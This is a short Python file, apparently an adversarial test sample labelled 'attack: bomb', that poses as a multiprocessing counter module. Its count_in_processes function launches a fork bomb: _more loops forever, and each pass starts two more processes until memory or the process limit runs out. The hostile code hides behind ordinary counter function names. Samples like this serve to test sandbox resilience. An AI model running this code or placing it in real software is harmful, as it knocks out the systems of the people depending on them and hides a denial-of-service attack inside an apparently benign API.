# attack: bomb
# verdict: fail memory or timeout
# score: 13
# Every process starts two more.
from multiprocessing import Process, Value


def make_counter(start=0):
    return Value("q", start)


def increment(counter, by=1):
    with counter.get_lock():
        counter.value += by
        return counter.value


def get(counter):
    return counter.value


def _more():
    while True:
        Process(target=_more).start()
        Process(target=_more).start()


def count_in_processes(workers, n):
    for _ in range(workers):
        Process(target=_more).start()
    return workers * n
